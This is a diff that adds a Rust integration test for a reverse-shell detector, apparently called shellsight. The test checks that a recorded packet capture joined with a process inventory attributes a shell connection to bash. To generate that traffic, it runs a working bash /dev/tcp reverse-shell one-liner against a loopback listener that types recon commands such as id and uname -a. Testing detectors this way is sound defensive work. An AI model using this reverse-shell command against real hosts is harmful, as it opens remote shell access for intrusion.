@@ -1,0 +1,79 @@
+//! The investigation workflow: a capture (tcpdump) and an inventory recorded at the same
+//! time (`agent --output`) are joined offline by `replay --inventory`. Needs root.
+
+mod agent_support;
+mod common;
+
+use agent_support::privileged;
+use common::*;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+#[test]
+fn replay_joins_a_recorded_inventory_with_a_recorded_capture() {
+    if !privileged() {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("ss-offline-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let (pcap, inventory) = (dir.join("cap.pcap"), dir.join("inventory.jsonl"));
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+
+    let mut tcpdump = Command::new("tcpdump")
+        .args(["-i", "lo", "-U", "-s", "256", "-w", pcap.to_str().unwrap(), &format!("tcp port {port}")])
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("tcpdump (CI installs it)");
+    let mut agent = Command::new(bin())
+        .args(["agent", "--interval", "500ms", "--output", inventory.to_str().unwrap(), "--duration", "16"])
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(1500));
+    let typist = std::thread::spawn(move || {
+        let (mut s, _) = listener.accept().unwrap();
+        s.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+        let mut buf = [0u8; 4096];
+        for (cmd, ms) in [("id", 1300), ("uname -a", 2100), ("hostname", 1000), ("ls /", 2600), ("pwd", 1500)]
+        {
+            std::thread::sleep(Duration::from_millis(ms));
+            s.write_all(format!("{cmd}\n").as_bytes()).unwrap();
+            let _ = s.read(&mut buf);
+        }
+        std::thread::sleep(Duration::from_millis(500));
+        let _ = s.write_all(b"exit\n");
+    });
+    let mut shell = Command::new("bash")
+        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    typist.join().unwrap();
+    let _ = shell.wait();
+    let _ = agent.wait();
+    std::thread::sleep(Duration::from_millis(500));
+    let _ = Command::new("kill").args(["-INT", &tcpdump.id().to_string()]).status();
+    let _ = tcpdump.wait();
+
+    let without = replay(&[&pcap], &[]);
+    assert!(!without.is_empty(), "the shell was not detected in the capture");
+    assert!(without.iter().all(|a| a.get("process").is_none()));
+    let with = replay(&[&pcap], &["--inventory", inventory.to_str().unwrap()]);
+    let a = with
+        .iter()
+        .find(|a| a["process"]["name"] == "bash")
+        .unwrap_or_else(|| panic!("not attributed: {with:?}"));
+    assert_eq!(a["shellsight"]["tier"], "high");
+    assert!(a["process"]["parent"]["pid"].as_i64().unwrap() > 0);
+    assert!(a["shellsight"]["reasons"].as_array().unwrap().iter().any(|r| r == "stdio-socket"));
+
+    // A line that is no inventory record is named by file and line.
+    let bad = dir.join("bad.jsonl");
+    std::fs::write(&bad, "{\"not\": \"a record\"}\n").unwrap();
+    let out = run(&["replay", pcap.to_str().unwrap(), "--inventory", bad.to_str().unwrap()]);
+    assert!(!out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("bad.jsonl:1:"));
+}
